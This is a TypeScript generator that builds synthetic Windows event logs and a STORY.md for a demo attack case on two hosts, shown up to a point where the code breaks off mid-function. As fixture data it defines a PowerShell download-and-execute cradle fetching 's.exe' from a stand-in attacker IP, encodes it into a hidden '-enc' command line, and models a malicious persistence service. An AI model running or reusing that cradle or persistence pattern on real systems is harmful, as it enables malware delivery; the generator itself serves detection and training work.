// Writes the embedded demo case: Windows event XML as `wevtutil qe <log> /f:xml` prints it
// (one <Event> per line, single-quoted attributes, no root element, CRLF), one file per log per
// host, plus STORY.md naming the record ids, LogonIds, PIDs and times of the attack chain.
//
// Deterministic: a fixed seed drives every "random" value (thread ids, sub-millisecond times,
// GUIDs, PIDs), and all times are fixed, so a rerun writes byte-identical files.
//
// Usage: npx tsc -p tsconfig.node.json && node dist/node/scripts/make-demo.js
// (writes <repo>/assets/demo). Only node builtins are imported, so the file also runs under
// type stripping.

import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { seededRandom } from '../electron/engine/testing/seeded-random.js';

// ---------------------------------------------------------------------------------------------
// Deterministic randomness and time

const makeRng = seededRandom;

const DAY_UTC_MS = Date.UTC(2024, 2, 12); // Tuesday 12 March 2024, all times UTC
const TICKS_PER_MS = 10_000n;

function isoFromTicks(ticks: bigint): string {
  const ms = Number(ticks / TICKS_PER_MS);
  const frac = (ticks % 10_000_000n).toString().padStart(7, '0');
  return new Date(ms).toISOString().slice(0, 19) + '.' + frac + 'Z';
}

// ---------------------------------------------------------------------------------------------
// Accounts and hosts

const DOMAIN_SID = 'S-1-5-21-3623811015-3361044348-30300820';

interface Account {
  readonly sid: string;
  readonly name: string;
  readonly domain: string;
}

const USERS = {
  asmith: { sid: `${DOMAIN_SID}-1104`, name: 'asmith', domain: 'CORP' },
  jdoe: { sid: `${DOMAIN_SID}-1107`, name: 'jdoe', domain: 'CORP' },
  svcBackup: { sid: `${DOMAIN_SID}-1112`, name: 'svc_backup', domain: 'CORP' },
  svcSccm: { sid: `${DOMAIN_SID}-1118`, name: 'svc_sccm', domain: 'CORP' },
} as const satisfies Record<string, Account>;

const NULL_ACCOUNT: Account = { sid: 'S-1-0-0', name: '-', domain: '-' };

interface HostInfo {
  readonly short: 'WS01' | 'FS01';
  readonly fqdn: string;
  readonly ip: string;
  readonly lsassPid: number;
  readonly servicesPid: number;
  /** The machine account as a 4688/4672 subject (SYSTEM on a domain member). */
  readonly machine: Account;
  /** SYSTEM as a 4624 target. */
  readonly system: Account;
  readonly localService: Account;
  readonly networkService: Account;
}

function host(short: 'WS01' | 'FS01', ip: string, lsassPid: number, servicesPid: number): HostInfo {
  return {
    short,
    fqdn: `${short}.corp.example`,
    ip,
    lsassPid,
    servicesPid,
    machine: { sid: 'S-1-5-18', name: `${short}$`, domain: 'CORP' },
    system: { sid: 'S-1-5-18', name: 'SYSTEM', domain: 'NT AUTHORITY' },
    localService: { sid: 'S-1-5-19', name: 'LOCAL SERVICE', domain: 'NT AUTHORITY' },
    networkService: { sid: 'S-1-5-20', name: 'NETWORK SERVICE', domain: 'NT AUTHORITY' },
  };
}

const WS01 = host('WS01', '10.0.1.51', 700, 684);
const FS01 = host('FS01', '10.0.1.20', 688, 672);

const ATTACKER_IP = '203.0.113.47';
const ATTACKER_WORKSTATION = 'WIN-T8K2P0LQ4VN';

// ---------------------------------------------------------------------------------------------
// Event model

type LogName = 'Security' | 'System' | 'PowerShell-Operational';

interface ProviderInfo {
  readonly name: string;
  readonly guid: string;
  readonly eventSourceName?: string;
  readonly channel: string;
}

const SECURITY: ProviderInfo = {
  name: 'Microsoft-Windows-Security-Auditing',
  guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
  channel: 'Security',
};
const SCM: ProviderInfo = {
  name: 'Service Control Manager',
  guid: '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
  eventSourceName: 'Service Control Manager',
  channel: 'System',
};
const POWERSHELL: ProviderInfo = {
  name: 'Microsoft-Windows-PowerShell',
  guid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
  channel: 'Microsoft-Windows-PowerShell/Operational',
};

interface DemoEvent {
  readonly host: HostInfo;
  readonly log: LogName;
  readonly ticks: bigint;
  /** Creation order breaks ties in time. */
  readonly seq: number;
  readonly provider: ProviderInfo;
  readonly eventId: number;
  readonly qualifiers?: number;
  readonly version: number;
  readonly level: number;
  readonly task: number;
  readonly opcode: number;
  readonly keywords: string;
  readonly activityId?: string;
  readonly pid: number;
  readonly tid: number;
  readonly userSid?: string;
  readonly data: ReadonlyArray<readonly [string, string]>;
  readonly binary?: string;
  /** Assigned when the logs are laid out: increasing per host and log, in time order. */
  recordId: number;
}

const FIRST_RECORD_ID: Readonly<Record<string, number>> = {
  'WS01/Security': 184_203,
  'WS01/System': 21_877,
  'WS01/PowerShell-Operational': 3_412,
  'FS01/Security': 902_114,
  'FS01/System': 40_561,
};

const LOG_FILE_SUFFIX: Readonly<Record<LogName, string>> = {
  Security: 'Security',
  System: 'System',
  'PowerShell-Operational': 'PowerShell-Operational',
};

// ---------------------------------------------------------------------------------------------
// XML rendering, as wevtutil does it

function escText(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

function escAttr(text: string): string {
  return escText(text).replace(/'/g, '&apos;');
}

function renderEvent(e: DemoEvent): string {
  const p = e.provider;
  const parts: string[] = [];
  parts.push(`<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>`);
  parts.push(
    `<Provider Name='${escAttr(p.name)}' Guid='${p.guid}'` +
      (p.eventSourceName ? ` EventSourceName='${escAttr(p.eventSourceName)}'/>` : '/>'),
  );
  parts.push(e.qualifiers !== undefined ? `<EventID Qualifiers='${e.qualifiers}'>${e.eventId}</EventID>` : `<EventID>${e.eventId}</EventID>`);
  parts.push(`<Version>${e.version}</Version><Level>${e.level}</Level><Task>${e.task}</Task><Opcode>${e.opcode}</Opcode>`);
  parts.push(`<Keywords>${e.keywords}</Keywords><TimeCreated SystemTime='${isoFromTicks(e.ticks)}'/>`);
  parts.push(`<EventRecordID>${e.recordId}</EventRecordID>`);
  parts.push(e.activityId ? `<Correlation ActivityID='${e.activityId}'/>` : '<Correlation/>');
  parts.push(`<Execution ProcessID='${e.pid}' ThreadID='${e.tid}'/>`);
  parts.push(`<Channel>${escText(p.channel)}</Channel><Computer>${e.host.fqdn}</Computer>`);
  parts.push(e.userSid ? `<Security UserID='${e.userSid}'/>` : '<Security/>');
  parts.push('</System>');
  if (e.data.length === 0 && e.binary === undefined) {
    parts.push('<EventData></EventData>');
  } else {
    parts.push('<EventData>');
    for (const [name, value] of e.data) parts.push(`<Data Name='${escAttr(name)}'>${escText(value)}</Data>`);
    if (e.binary !== undefined) parts.push(`<Binary>${e.binary}</Binary>`);
    parts.push('</EventData>');
  }
  parts.push('</Event>');
  return parts.join('');
}

// ---------------------------------------------------------------------------------------------
// The scenario builder: processes, logons and the events they leave

interface Proc {
  readonly host: HostInfo;
  readonly pid: number;
  readonly image: string;
  readonly commandLine: string;
  /** The token the process runs with. */
  readonly account: Account;
  readonly logonId: string;
  readonly tid: number;
  /** Record of its 4688 (filled in after layout). */
  readonly start: DemoEvent;
}

/** What a 4688 needs of its parent; processes running since boot have no 4688 of their own. */
type ProcRef = Pick<Proc, 'host' | 'pid' | 'image' | 'account' | 'logonId'>;

const hex = (n: number): string => '0x' + n.toString(16);

/** The privileges Windows lists in 4672 for an administrator's logon. */
const ADMIN_PRIVILEGES = [
  'SeSecurityPrivilege',
  'SeTakeOwnershipPrivilege',
  'SeLoadDriverPrivilege',
  'SeBackupPrivilege',
  'SeRestorePrivilege',
  'SeDebugPrivilege',
  'SeSystemEnvironmentPrivilege',
  'SeImpersonatePrivilege',
  'SeDelegateSessionUserImpersonatePrivilege',
].join('\n\t\t\t');
const SYSTEM_PRIVILEGES = [
  'SeAssignPrimaryTokenPrivilege',
  'SeTcbPrivilege',
  'SeSecurityPrivilege',
  'SeTakeOwnershipPrivilege',
  'SeLoadDriverPrivilege',
  'SeBackupPrivilege',
  'SeRestorePrivilege',
  'SeDebugPrivilege',
  'SeAuditPrivilege',
  'SeSystemEnvironmentPrivilege',
  'SeImpersonatePrivilege',
  'SeDelegateSessionUserImpersonatePrivilege',
].join('\n\t\t\t');

class Scenario {
  readonly events: DemoEvent[] = [];
  private readonly rng = makeRng(0x5eed_2024);
  private seq = 0;
  private readonly usedPids = new Map<string, Set<number>>();

  /** `HH:MM:SS.mmm` on the demo day, plus a fixed-seed sub-millisecond part. */
  at(clock: string): bigint {
    const m = /^(\d\d):(\d\d):(\d\d)\.(\d{3})$/.exec(clock);
    if (!m) throw new Error(`bad clock ${clock}`);
    const ms = DAY_UTC_MS + ((Number(m[1]) * 60 + Number(m[2])) * 60 + Number(m[3])) * 1000 + Number(m[4]);
    return BigInt(ms) * TICKS_PER_MS + BigInt(Math.floor(this.rng() * 10_000));
  }

  /** Moves a time on by `ms` milliseconds plus jitter below a millisecond. */
  after(ticks: bigint, ms: number): bigint {
    return ticks + BigInt(ms) * TICKS_PER_MS + BigInt(Math.floor(this.rng() * 10_000));
  }

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rng() * (hi - lo + 1));
  }

  guid(): string {
    const h = (n: number): string => Array.from({ length: n }, () => Math.floor(this.rng() * 16).toString(16)).join('');
    return `${h(8)}-${h(4)}-4${h(3)}-${'89ab'[Math.floor(this.rng() * 4)]}${h(3)}-${h(12)}`;
  }

  tid(): number {
    return this.int(600, 12_000) & ~3;
  }

  /** A fresh PID on the host (multiple of 4, never used before there) unless one is forced. */
  pid(h: HostInfo, forced?: number): number {
    let used = this.usedPids.get(h.short);
    if (!used) {
      used = new Set([4, h.lsassPid, h.servicesPid]);
      this.usedPids.set(h.short, used);
    }
    if (forced !== undefined) {
      used.add(forced);
      return forced;
    }
    for (;;) {
      const candidate = this.int(0x400, 0x3400) & ~3;
      if (!used.has(candidate)) {
        used.add(candidate);
        return candidate;
      }
    }
  }

  /** Reserves PIDs of processes that exist before the window (so fresh ones never collide). */
  reserve(h: HostInfo, ...pids: number[]): void {
    for (const p of pids) this.pid(h, p);
  }

  emit(e: Omit<DemoEvent, 'seq' | 'recordId'>): DemoEvent {
    const full: DemoEvent = { ...e, seq: this.seq++, recordId: 0 };
    this.events.push(full);
    return full;
  }

  security(
    h: HostInfo,
    ticks: bigint,
    eventId: number,
    meta: { version: number; task: number; failure?: boolean; activity?: boolean; pid?: number },
    data: ReadonlyArray<readonly [string, string]>,
  ): DemoEvent {
    return this.emit({
      host: h,
      log: 'Security',
      ticks,
      provider: SECURITY,
      eventId,
      version: meta.version,
      level: 0,
      task: meta.task,
      opcode: 0,
      keywords: meta.failure ? '0x8010000000000000' : '0x8020000000000000',
      ...(meta.activity ? { activityId: '{' + this.guid().toUpperCase() + '}' } : {}),
      pid: meta.pid ?? h.lsassPid,
      tid: this.tid(),
      data,
    });
  }

  // --- logons ---------------------------------------------------------------------------------

  logon(
    h: HostInfo,
    ticks: bigint,
    o: {
      subject?: Account;
      subjectLogonId?: string;
      target: Account;
      logonId: string;
      logonType: number;
      logonProcess: string;
      authPackage: string;
      workstation: string;
      logonGuid?: string;
      lmPackage?: string;
      keyLength?: number;
      processId?: number;
      processName?: string;
      ip: string;
      port: string;
      elevated: boolean;
      outbound?: Account;
      linkedLogonId?: string;
    },
  ): DemoEvent {
    const subject = o.subject ?? NULL_ACCOUNT;
    return this.security(h, ticks, 4624, { version: 2, task: 12544, activity: true }, [
      ['SubjectUserSid', subject.sid],
      ['SubjectUserName', subject.name],
      ['SubjectDomainName', subject.domain],
      ['SubjectLogonId', o.subjectLogonId ?? '0x0'],
      ['TargetUserSid', o.target.sid],
      ['TargetUserName', o.target.name],
      ['TargetDomainName', o.target.domain],
      ['TargetLogonId', o.logonId],
      ['LogonType', String(o.logonType)],
      ['LogonProcessName', o.logonProcess],
      ['AuthenticationPackageName', o.authPackage],
      ['WorkstationName', o.workstation],
      ['LogonGuid', o.logonGuid ?? '{00000000-0000-0000-0000-000000000000}'],
      ['TransmittedServices', '-'],
      ['LmPackageName', o.lmPackage ?? '-'],
      ['KeyLength', String(o.keyLength ?? 0)],
      ['ProcessId', hex(o.processId ?? 0)],
      ['ProcessName', o.processName ?? '-'],
      ['IpAddress', o.ip],
      ['IpPort', o.port],
      ['ImpersonationLevel', '%%1833'],
      ['RestrictedAdminMode', '-'],
      ['TargetOutboundUserName', o.outbound?.name ?? '-'],
      ['TargetOutboundDomainName', o.outbound?.domain ?? '-'],
      ['VirtualAccount', '%%1843'],
      ['TargetLinkedLogonId', o.linkedLogonId ?? '0x0'],
      ['ElevatedToken', o.elevated ? '%%1842' : '%%1843'],
    ]);
  }

  specialPrivileges(h: HostInfo, ticks: bigint, account: Account, logonId: string, privileges: string): DemoEvent {
    return this.security(h, ticks, 4672, { version: 0, task: 12548, activity: true }, [
      ['SubjectUserSid', account.sid],
      ['SubjectUserName', account.name],
      ['SubjectDomainName', account.domain],
      ['SubjectLogonId', logonId],
      ['PrivilegeList', privileges],
    ]);
  }

  logoff(h: HostInfo, ticks: bigint, account: Account, logonId: string, logonType: number): DemoEvent {
    return this.security(h, ticks, 4634, { version: 0, task: 12545 }, [
      ['TargetUserSid', account.sid],
      ['TargetUserName', account.name],
      ['TargetDomainName', account.domain],
      ['TargetLogonId', logonId],
      ['LogonType', String(logonType)],
    ]);
  }

  /** A SYSTEM service logon (type 5) with its 4672, as services.exe leaves them. */
  serviceLogon(h: HostInfo, ticks: bigint): void {
    this.logon(h, ticks, {
      subject: h.machine,
      subjectLogonId: '0x3e7',
      target: h.system,
      logonId: '0x3e7',
      logonType: 5,
      logonProcess: 'Advapi  ',
      authPackage: 'Negotiate',
      workstation: '-',
      processId: h.servicesPid,
      processName: 'C:\\Windows\\System32\\services.exe',
      ip: '-',
      port: '-',
      elevated: true,
    });
    this.specialPrivileges(h, this.after(ticks, 0), h.system, '0x3e7', SYSTEM_PRIVILEGES);
  }

  // --- processes ------------------------------------------------------------------------------

  /**
   * A 4688. The subject is the creator (the parent's token); the Target fields are set only when
   * the new process gets another token (services.exe starting a service, DCOM activation,
   * secondary logon), else S-1-0-0 / - / - / 0x0 as Windows writes them.
   */
  spawn(
    parent: ProcRef,
    ticks: bigint,
    o: {
      image: string;
      commandLine: string;
      elevation?: '%%1936' | '%%1937' | '%%1938';
      label: string;
      as?: { account: Account; logonId: string };
      pid?: number;
    },
  ): Proc {
    const h = parent.host;
    const pid = this.pid(h, o.pid);
    const start = this.security(h, ticks, 4688, { version: 2, task: 13312, pid: 4 }, [
      ['SubjectUserSid', parent.account.sid],
      ['SubjectUserName', parent.account.name],
      ['SubjectDomainName', parent.account.domain],
      ['SubjectLogonId', parent.logonId],
      ['NewProcessId', hex(pid)],
      ['NewProcessName', o.image],
      ['TokenElevationType', o.elevation ?? '%%1936'],
      ['ProcessId', hex(parent.pid)],
      ['CommandLine', o.commandLine],
      ['TargetUserSid', o.as ? o.as.account.sid : NULL_ACCOUNT.sid],
      ['TargetUserName', o.as ? o.as.account.name : NULL_ACCOUNT.name],
      ['TargetDomainName', o.as ? o.as.account.domain : NULL_ACCOUNT.domain],
      ['TargetLogonId', o.as ? o.as.logonId : '0x0'],
      ['ParentProcessName', parent.image],
      ['MandatoryLabel', o.label],
    ]);
    return {
      host: h,
      pid,
      image: o.image,
      commandLine: o.commandLine,
      account: o.as ? o.as.account : parent.account,
      logonId: o.as ? o.as.logonId : parent.logonId,
      tid: this.tid(),
      start,
    };
  }

  exit(p: Proc, ticks: bigint, status = '0x0'): DemoEvent {
    return this.security(p.host, ticks, 4689, { version: 0, task: 13313, pid: 4 }, [
      ['SubjectUserSid', p.account.sid],
      ['SubjectUserName', p.account.name],
      ['SubjectDomainName', p.account.domain],
      ['SubjectLogonId', p.logonId],
      ['Status', status],
      ['ProcessId', hex(p.pid)],
      ['ProcessName', p.image],
    ]);
  }

  // --- System log -------------------------------------------------------------------------------

  scm(
    h: HostInfo,
    ticks: bigint,
    eventId: number,
    o: { qualifiers: number; level: number; userSid?: string; binary?: string },
    data: ReadonlyArray<readonly [string, string]>,
  ): DemoEvent {
    return this.emit({
      host: h,
      log: 'System',
      ticks,
      provider: SCM,
      eventId,
      qualifiers: o.qualifiers,
      version: 0,
      level: o.level,
      task: 0,
      opcode: 0,
      keywords: '0x8080000000000000',
      pid: h.servicesPid,
      tid: this.tid(),
      ...(o.userSid ? { userSid: o.userSid } : {}),
      data,
      ...(o.binary !== undefined ? { binary: o.binary } : {}),
    });
  }

  /** 7036 "The X service entered the Y state." Binary is the key name and state, UTF-16LE. */
  serviceState(h: HostInfo, ticks: bigint, display: string, key: string, state: 'running' | 'stopped'): DemoEvent {
    const binary = Buffer.from(`${key}/${state === 'running' ? 4 : 1}\0`, 'utf16le').toString('hex').toUpperCase();
    return this.scm(h, ticks, 7036, { qualifiers: 16384, level: 4, binary }, [
      ['param1', display],
      ['param2', state],
    ]);
  }

  // --- PowerShell/Operational -----------------------------------------------------------------

  ps(
    p: Proc,
    ticks: bigint,
    eventId: number,
    o: { version: number; level: number; task: number; opcode: number; activityId?: string },
    data: ReadonlyArray<readonly [string, string]>,
  ): DemoEvent {
    return this.emit({
      host: p.host,
      log: 'PowerShell-Operational',
      ticks,
      provider: POWERSHELL,
      eventId,
      version: o.version,
      level: o.level,
      task: o.task,
      opcode: o.opcode,
      keywords: '0x0',
      ...(o.activityId ? { activityId: o.activityId } : {}),
      pid: p.pid,
      tid: p.tid,
      userSid: p.account.sid,
      data,
    });
  }

  /**
   * What a PowerShell host leaves when it starts: 53504 (IPC listener, naming its own PID), and
   * around it 40961/40962 (console starting/ready) when it is the console host powershell.exe.
   */
  psStartup(p: Proc, ticks: bigint, console = true): bigint {
    const activity = '{' + this.guid().toUpperCase() + '}';
    if (console) this.ps(p, ticks, 40961, { version: 1, level: 4, task: 4, opcode: 1, activityId: activity }, []);
    const t2 = this.after(ticks, 41);
    this.ps(p, t2, 53504, { version: 1, level: 4, task: 111, opcode: 10, activityId: activity }, [
      ['param1', String(p.pid)],
      ['param2', 'DefaultAppDomain'],
    ]);
    if (!console) return t2;
    const t3 = this.after(t2, 312);
    this.ps(p, t3, 40962, { version: 1, level: 4, task: 4, opcode: 2, activityId: activity }, []);
    return t3;
  }

  scriptBlock(p: Proc, ticks: bigint, text: string, path: string, level = 5): DemoEvent {
    return this.ps(p, ticks, 4104, { version: 1, level, task: 2, opcode: 15, activityId: '{' + this.guid().toUpperCase() + '}' }, [
      ['MessageNumber', '1'],
      ['MessageTotal', '1'],
      ['ScriptBlockText', text],
      ['ScriptBlockId', this.guid()],
      ['Path', path],
    ]);
  }
}

// ---------------------------------------------------------------------------------------------
// The story

/** The attacker's script, run as `powershell -enc`: fetch a binary to %TEMP% and start it. */
export const DEMO_PAYLOAD_SCRIPT =
  "$u='http://203.0.113.47/s.exe';$p=\"$env:TEMP\\upd.exe\";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p";

/** Base64 of the UTF-16LE script, as `powershell -EncodedCommand` takes it. */
export const DEMO_PAYLOAD_BASE64 = Buffer.from(DEMO_PAYLOAD_SCRIPT, 'utf16le').toString('base64');

const POWERSHELL_EXE = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PAYLOAD_COMMAND_LINE = `${POWERSHELL_EXE} -nop -w hidden -enc ${DEMO_PAYLOAD_BASE64}`;
const SECOND_STAGE = 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.exe';
const SERVICE_NAME = 'WinUpdHelper';
const SERVICE_IMAGE = `%COMSPEC% /c ${SECOND_STAGE}`;

const INVENTORY_PATH = '\\\\corp.example\\NETLOGON\\inventory.ps1';
const INVENTORY_SCRIPT = [
  '# Corp IT inventory: runs from logon.bat at every logon',
  '$inv = [ordered]@{',
  '    Computer = $env:COMPUTERNAME',
  '    User     = $env:USERNAME',
  '    OS       = (Get-CimInstance Win32_OperatingSystem).Caption',
  "    When     = (Get-Date).ToString('o')",
  '}',
  '$dir = Join-Path $env:LOCALAPPDATA \'CorpInventory\'',
  'New-Item -ItemType Directory -Force -Path $dir | Out-Null',
  "$inv | ConvertTo-Json | Set-Content -Path (Join-Path $dir 'last.json') -Encoding UTF8",
].join('\r\n');

/** The PID that two different powershell.exe processes hold, hours apart. */
const REUSED_PID = 0x1f3c;

/** A record of the story as the generator laid it out; record ids are per host and log. */
export interface StoryRecord {
  readonly host: string;
  readonly log: LogName;
  readonly recordId: number;
  readonly eventId: number;
  readonly time: string;
}

export interface DemoStory {
  readonly attackerIp: string;
  readonly failedLogons: readonly StoryRecord[];
  readonly networkLogon: StoryRecord & { readonly logonId: string; readonly user: string };
  readonly networkLogonPrivileges: StoryRecord;
  readonly wsmprovhost: StoryRecord & { readonly pid: number };
  readonly runas: StoryRecord & { readonly pid: number };
  readonly newCredentialsLogon: StoryRecord & {
    readonly logonId: string;
    readonly subjectLogonId: string;
    readonly outboundUser: string;
  };
  readonly cmd: StoryRecord & { readonly pid: number };
  readonly powershell: StoryRecord & { readonly pid: number; readonly parentPid: number; readonly commandLine: string };
  readonly scriptBlock: StoryRecord & { readonly pid: number; readonly scriptBlockId: string; readonly text: string };
  readonly secondStage: StoryRecord & { readonly pid: number; readonly parentPid: number; readonly image: string };
  readonly serviceInstallSecurity: StoryRecord & { readonly subjectLogonId: string; readonly serviceName: string };
  readonly serviceInstallSystem: StoryRecord & { readonly serviceName: string; readonly imagePath: string };
  readonly serviceStartCmd: StoryRecord & { readonly pid: number };
  readonly serviceSecondStage: StoryRecord & { readonly pid: number };
  readonly shareAccess: StoryRecord & { readonly logonId: string };
  readonly attackerLogoff: StoryRecord;
  readonly reusedPid: {
    readonly pid: number;
    readonly earlierStart: StoryRecord;
    readonly earlierExit: StoryRecord;
    readonly earlierScriptBlock: StoryRecord;
    readonly laterStart: StoryRecord;
  };
  readonly hostileCommandLine: StoryRecord & { readonly pid: number };
  readonly userLogons: readonly (StoryRecord & { readonly logonId: string; readonly logonType: number })[];
}

function ref(e: DemoEvent): StoryRecord {
  return { host: e.host.short, log: e.log, recordId: e.recordId, eventId: e.eventId, time: isoFromTicks(e.ticks) };
}

function dataOf(e: DemoEvent, name: string): string {
  const found = e.data.find(([n]) => n === name);
  if (!found) throw new Error(`event ${e.eventId} has no ${name}`);
  return found[1];
}

interface Built {
  readonly events: readonly DemoEvent[];
  readonly story: () => DemoStory;
}

function buildScenario(): Built {
  const s = new Scenario();

  // Processes that exist before the window opens (started at boot, so no 4688 in the window).
  const sys = (h: HostInfo, pid: number, image: string): ProcRef => ({ host: h, pid, image, account: h.machine, logonId: '0x3e7' });
  const services = sys(WS01, WS01.servicesPid, 'C:\\Windows\\System32\\services.exe');
  const winlogon = sys(WS01, 0x2f8, 'C:\\Windows\\System32\\winlogon.exe');
  const dcomLaunch = sys(WS01, 0x3a8, 'C:\\Windows\\System32\\svchost.exe');
  const schedule = sys(WS01, 0x4b0, 'C:\\Windows\\System32\\svchost.exe');
  const seclogon = sys(WS01, 0x4c4, 'C:\\Windows\\System32\\svchost.exe');
  s.reserve(WS01, winlogon.pid, dcomLaunch.pid, schedule.pid, seclogon.pid, REUSED_PID);
  const fsServices = sys(FS01, FS01.servicesPid, 'C:\\Windows\\System32\\services.exe');
  s.reserve(FS01, 0x3b0, 0x4a4);

  const SYSTEM_LABEL = 'S-1-16-16384';
  const HIGH = 'S-1-16-12288';
  const MEDIUM = 'S-1-16-8192';

  // --- Benign background on WS01 ---------------------------------------------------------------

  // Service hosts started on demand by services.exe, and stopped again later.
  const serviceStarts: Array<{ clock: string; image: string; cmd: string; display: string; key: string; runMs: number; as: 'system' | 'local' | 'network' }> = [
    { clock: '07:58:12.114', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS', display: 'Background Intelligent Transfer Service', key: 'BITS', runMs: 1_412_000, as: 'system' },
    { clock: '08:31:40.502', image: 'C:\\Windows\\System32\\sppsvc.exe', cmd: 'C:\\Windows\\system32\\sppsvc.exe', display: 'Software Protection', key: 'sppsvc', runMs: 31_200, as: 'network' },
    { clock: '09:03:18.227', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s UsoSvc', display: 'Update Orchestrator Service', key: 'UsoSvc', runMs: 600_400, as: 'system' },
    { clock: '09:41:05.830', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k LocalService -p -s fdPHost', display: 'Function Discovery Provider Host', key: 'fdPHost', runMs: 120_000, as: 'local' },
    { clock: '10:02:51.316', image: 'C:\\Windows\\servicing\\TrustedInstaller.exe', cmd: 'C:\\Windows\\servicing\\TrustedInstaller.exe', display: 'Windows Modules Installer', key: 'TrustedInstaller', runMs: 181_700, as: 'system' },
    { clock: '11:12:09.044', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC', display: 'Client License Service (ClipSVC)', key: 'ClipSVC', runMs: 900_000, as: 'system' },
    { clock: '12:20:33.610', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS', display: 'Background Intelligent Transfer Service', key: 'BITS', runMs: 400_000, as: 'system' },
  ];
  for (const svc of serviceStarts) {
    const t = s.at(svc.clock);
    if (svc.as === 'system') s.serviceLogon(WS01, t);
    const as =
      svc.as === 'system' ? undefined
      : svc.as === 'local' ? { account: WS01.localService, logonId: '0x3e5' }
      : { account: WS01.networkService, logonId: '0x3e4' };
    const p = s.spawn(services, s.after(t, 6), { image: svc.image, commandLine: svc.cmd, label: SYSTEM_LABEL, ...(as ? { as } : {}) });
    s.serviceState(WS01, s.after(t, 58), svc.display, svc.key, 'running');
    const stop = s.after(t, svc.runMs);
    s.serviceState(WS01, stop, svc.display, svc.key, 'stopped');
    s.exit(p, s.after(stop, 24));
  }
  s.scm(WS01, s.at('07:58:12.160'), 7040, { qualifiers: 16384, level: 4, userSid: 'S-1-5-18' }, [
    ['param1', 'Background Intelligent Transfer Service'],
    ['param2', 'demand start'],
    ['param3', 'auto start'],
    ['param4', 'BITS'],
  ]);

  // The software updater, hourly, as SYSTEM from the Task Scheduler's svchost.
  for (const clock of ['08:14:02.007', '09:14:02.113', '10:14:01.950', '11:14:02.031', '12:14:02.204']) {
    const t = s.at(clock);
    const p = s.spawn(schedule, t, {
      image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
      commandLine: '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
      label: SYSTEM_LABEL,
    });
    s.exit(p, s.after(t, s.int(1800, 4200)));
  }
  // Defender's daily signature update.
  {
    const t = s.at('09:52:44.318');
    const p = s.spawn(schedule, t, {
      image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe',
      commandLine: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges',
      label: SYSTEM_LABEL,
    });
    s.exit(p, s.after(t, 38_410));
  }

  // The SCCM client push account checks in over the network (Kerberos, internal, admin).
  for (const clock of ['08:40:17.602', '09:40:16.884', '10:40:17.219', '11:40:17.045', '12:40:16.930']) {
    const t = s.at(clock);
    const logonId = hex(s.int(0x400000, 0x6fffff));
    s.logon(WS01, t, {
      target: USERS.svcSccm,
      logonId,
      logonType: 3,
      logonProcess: 'Kerberos',
      authPackage: 'Kerberos',
      workstation: '-',
      logonGuid: '{' + s.guid() + '}',
      ip: '10.0.1.30',
      port: String(s.int(49_700, 65_000)),
      elevated: true,
    });
    s.specialPrivileges(WS01, s.after(t, 0), USERS.svcSccm, logonId, ADMIN_PRIVILEGES);
    s.logoff(WS01, s.after(t, s.int(40_000, 70_000)), USERS.svcSccm, logonId, 3);
  }

  // --- The interactive user and the logon script that runs at every logon ----------------------

  const userLogons: DemoEvent[] = [];
  let firstInventory: { proc: Proc; exit: DemoEvent; block: DemoEvent } | undefined;
  let outlookProc: Proc | undefined;

  const interactiveLogon = (clock: string, logonId: string, logonType: 2 | 11, mapDriveOk: boolean, inventoryPid?: number): Proc => {
    const t = s.at(clock);
    userLogons.push(
      s.logon(WS01, t, {
        subject: WS01.machine,
        subjectLogonId: '0x3e7',
        target: USERS.asmith,
        logonId,
        logonType,
        logonProcess: 'User32 ',
        authPackage: 'Negotiate',
        workstation: 'WS01',
        logonGuid: logonType === 2 ? '{' + s.guid() + '}' : '{00000000-0000-0000-0000-000000000000}',
        processId: winlogon.pid,
        processName: winlogon.image,
        ip: '127.0.0.1',
        port: '0',
        elevated: false,
      }),
    );
    const userinit = s.spawn(winlogon, s.after(t, 1_210), {
      image: 'C:\\Windows\\System32\\userinit.exe',
      commandLine: 'C:\\Windows\\system32\\userinit.exe',
      label: MEDIUM,
      as: { account: USERS.asmith, logonId },
    });
    const explorer = s.spawn(userinit, s.after(t, 1_650), {
      image: 'C:\\Windows\\explorer.exe',
      commandLine: 'C:\\Windows\\Explorer.EXE',
      label: MEDIUM,
    });
    const cmd = s.spawn(userinit, s.after(t, 1_702), {
      image: 'C:\\Windows\\System32\\cmd.exe',
      commandLine: 'C:\\Windows\\system32\\cmd.exe /c "\\\\corp.example\\NETLOGON\\logon.bat"',
      label: MEDIUM,
    });
    const conhost = s.spawn(cmd, s.after(t, 1_715), {
      image: 'C:\\Windows\\System32\\conhost.exe',
      commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
      label: MEDIUM,
    });
    const net = s.spawn(cmd, s.after(t, 1_990), {
      image: 'C:\\Windows\\System32\\net.exe',
      commandLine: 'net  use H: \\\\fs01.corp.example\\home\\asmith /persistent:no',
      label: MEDIUM,
    });
